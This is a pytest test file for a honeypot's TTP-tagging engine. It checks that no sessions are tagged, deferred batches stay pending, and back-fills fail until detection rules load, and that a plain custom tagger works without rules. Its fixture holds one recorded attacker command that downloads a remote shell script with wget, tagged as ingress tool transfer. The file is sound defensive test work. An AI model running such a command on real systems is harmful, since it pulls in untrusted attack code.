"""An engine whose rules are not loaded judges nothing: no batch, no sweep, no aggregate, no back-fill, no mark."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, ClassVar

import pytest

from decnet.bus.base import Event
from decnet.bus.memory import MemoryBus
from decnet.config import Settings, load_settings
from decnet.db.repository import BaseRepository
from decnet.errors import RuleStoreError
from decnet.runtime.supervisor import Supervisor
from decnet.runtime.worker import Transaction
from decnet.ttp.backfill import run_backfill
from decnet.ttp.base import KNOWN_SOURCE_KINDS, Tagger, TaggerEvent, TTPTag
from decnet.ttp.factory import CompositeTagger
from decnet.ttp.store.impl.database import LEASE
from decnet.ttp.worker import TtpWorker, run_ttp_worker_loop
from tests.dbkit import open_repo
from tests.rowkit import define_rule
from tests.storekit import database, filesystem, rule
from tests.wirekit import taken

SESSION: dict[str, Any] = {
    "session_id": "s1",
    "attacker_uuid": "a1",
    "attacker_ip": "203.0.113.1",
    "decky_id": "d",
    "started_at": 1.0,
    "ended_at": 9.0,
    "end_reason": "closed",
}
COMMANDS = [{"id": "c1", "command_text": "wget http://203.0.113.9/x.sh", "ts": 1.0}]
ENDED = Event("attacker.session.ended", {**SESSION, "commands": COMMANDS}, ts=9.0)


class World:
    """A database, a folder of rules and settings that make everything quick."""

    def __init__(self, repo: BaseRepository, folder: Path) -> None:
        self.repo, self.rules = repo, folder / "rules"
        self.rules.mkdir()
        made = load_settings(data_dir=folder, rules=self.rules)
        runtime = made.runtime.model_copy(update={"poll_interval_s": 0.05, "batch_wait_s": 0.05})
        ttp = made.ttp.model_copy(update={"aggregate_interval_s": 0.05})
        self.settings: Settings = made.model_copy(update={"runtime": runtime, "ttp": ttp})
        self.bus = MemoryBus()

    async def stored(self) -> None:
        """The session as the recorder keeps it."""
        async with self.repo.transaction() as bound:
            await bound.upsert_session({**SESSION, "commands": []})
            await bound.insert_commands("s1", COMMANDS)

    async def tagged(self) -> list[tuple[str, str]]:
        return [(t["rule_id"], t["source_id"]) for t in await self.repo.list_tags()]

    async def untagged(self) -> list[str]:
        return [row["session_id"] for row in await self.repo.untagged_sessions(9)]

    async def shown(self) -> dict[str, Any]:
        beats = {row["worker"]: row["payload"] for row in await self.repo.heartbeats()}
        return dict(beats.get("ttp") or {})

    async def until(self, holds: Callable[[], Awaitable[bool]]) -> None:
        async with asyncio.timeout(20):
            while not await holds():
                await asyncio.sleep(0.02)

    async def waits(self) -> bool:
        return (await self.shown()).get("state") == "waiting_for_rules"

    @asynccontextmanager
    async def running(self, worker: TtpWorker) -> AsyncIterator[Supervisor]:
        supervisor = Supervisor([worker], self.repo, self.bus, self.settings)
        await supervisor.start()
        try:
            yield supervisor
        finally:
            await supervisor.stop(1.0)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    async with open_repo("sqlite", tmp_path) as repo:
        yield World(repo, tmp_path)


def _empty(world: World) -> None:
    """Nothing in the folder."""


def _broken(world: World) -> None:
    (world.rules / "r.yaml").write_text(rule("R1").replace("pattern:", "regx:"), "utf-8")


@pytest.mark.parametrize("kind", ["database", "filesystem"])
@pytest.mark.parametrize("folder", [_empty, _broken])
async def test_nothing_is_judged_until_a_rule_is_loaded_and_then_all_of_it(
    world: World, kind: str, folder: Callable[[World], None]
) -> None:
    folder(world)
    store = database(world.repo, world.rules) if kind == "database" else filesystem(world.rules)
    await world.stored()
    await world.bus.connect()
    await world.bus.publish_events([ENDED])
    worker = TtpWorker(store, world.settings)
    async with world.running(worker) as supervisor:
        await world.until(world.waits)
        await asyncio.sleep(0.3)  # several polls of sweep, stream and aggregates
        assert await world.untagged() == ["s1"], "no mark without rules"
        assert supervisor.runners["ttp"].stats.processed == 0
        assert (await world.shown())["rules_loaded"] == 0
        assert (await world.shown())["note"] == (
            "no rules loaded: 1 files failed" if folder is _broken else "no rules loaded"
        )
        assert worker.unfinished() == "waits for rules: nothing is judged"
        (world.rules / "r.yaml").write_text(rule("R1"), "utf-8")

        async def judged() -> bool:
            done = supervisor.runners["ttp"].stats.processed == 1 and not worker.unfinished()
            return done and not await world.untagged()

        await world.until(judged)
        assert await world.tagged() == [("R1", "c1")]
        assert supervisor.runners["ttp"].shown_state() == "ok"


async def test_an_engine_beside_the_one_that_feeds_waits_until_the_table_is_filled(world: World) -> None:
    (world.rules / "r.yaml").write_text(rule("R1"), "utf-8")
    await world.stored()
    assert await world.repo.lease_acquire(LEASE, "elsewhere:1:x", 60.0)
    async with world.running(TtpWorker(database(world.repo, world.rules), world.settings)):
        await world.until(world.waits)
        assert await world.untagged() == ["s1"]
        await define_rule(world.repo, "R1", 1, "demo", rule("R1"), "r.yaml")

        async def judged() -> bool:
            return not await world.untagged()

        await world.until(judged)
    assert await world.tagged() == [("R1", "c1")]


async def test_a_batch_that_comes_without_rules_is_put_off_and_marks_nothing(world: World) -> None:
    await world.stored()
    worker = TtpWorker(filesystem(world.rules), world.settings)
    async with world.repo.transaction() as bound:
        tx = Transaction(bound)
        await worker.handle(taken([ENDED]), tx)
    assert tx.deferred == {ENDED.id}
    assert tx.bus.events == []
    assert await world.untagged() == ["s1"]


async def test_attackers_that_are_due_stay_due_without_rules(world: World) -> None:
    await world.repo.due_mark({"a1": (1.0, 9.0)})
    due = await world.repo.due_take("ttp", 9)
    worker = TtpWorker(filesystem(world.rules), world.settings)
    await worker._aggregate(world.repo, world.bus)
    assert [mark["attacker_uuid"] for mark in due] == ["a1"]
    assert await world.repo.due_take("ttp", 9) == due


@pytest.mark.parametrize("folder", [_empty, _broken])
async def test_a_back_fill_without_rules_says_so_and_marks_nothing(
    world: World, folder: Callable[[World], None]
) -> None:
    folder(world)
    await world.stored()
    span = datetime.fromtimestamp(0.0, UTC), datetime.fromtimestamp(20.0, UTC)
    with pytest.raises(RuleStoreError, match=r"no rules are loaded.*rules check"):
        await run_backfill(*span, repo=world.repo, settings=world.settings)
    assert await world.untagged() == ["s1"]


# -- any tagger of the contract


class Whole(Tagger):
    """The least that the contract asks for."""

    name: ClassVar[str] = "whole"
    HANDLES: ClassVar[frozenset[str]] = KNOWN_SOURCE_KINDS

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []

    async def tag(self, event: TaggerEvent) -> list[TTPTag]:
        self.seen.append((event.source_kind, event.source_id))
        if event.source_kind != "command":
            return []
        return [
            TTPTag(
                uuid="t1", source_kind="command", source_id=event.source_id, attacker_uuid="a1", session_id="s1",
                tactic="TA0011", technique_id="T1105", confidence=0.9, rule_id="mine", rule_version=1,
                evidence={}, attack_release="18.1",
            )
        ]  # fmt: skip


async def test_a_plain_tagger_works_in_the_loop_and_needs_no_rules(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    await world.stored()
    await world.bus.connect()
    await world.bus.publish_events([ENDED])
    tagger, shutdown = Whole(), asyncio.Event()
    with caplog.at_level("INFO"):
        loop = asyncio.create_task(
            run_ttp_worker_loop(
                world.repo, tagger=tagger, bus=world.bus, shutdown=shutdown, poll_interval_secs=0.05
            )
        )

        async def judged() -> bool:
            return bool(await world.tagged()) and not await world.untagged()

        await world.until(judged)
        assert (await world.shown())["state"] in ("ok", "starting")
        shutdown.set()
        await asyncio.wait_for(loop, 20)
    assert await world.tagged() == [("mine", "c1")]
    assert {("session", "s1"), ("command", "c1")} <= set(tagger.seen)
    assert (await world.shown())["state"] == "stopped"


def test_a_tagger_that_is_no_composite_keeps_its_name_and_asks_for_no_rules() -> None:
    worker = TtpWorker(None, load_settings(), Whole())
    assert (worker.tagger_name, worker.waiting_for()) == ("whole", "")
    assert "degraded" not in worker.health()
    assert TtpWorker(None, load_settings(), CompositeTagger()).waiting_for() == ""
    assert TtpWorker(None, load_settings()).waiting_for() == "rules"
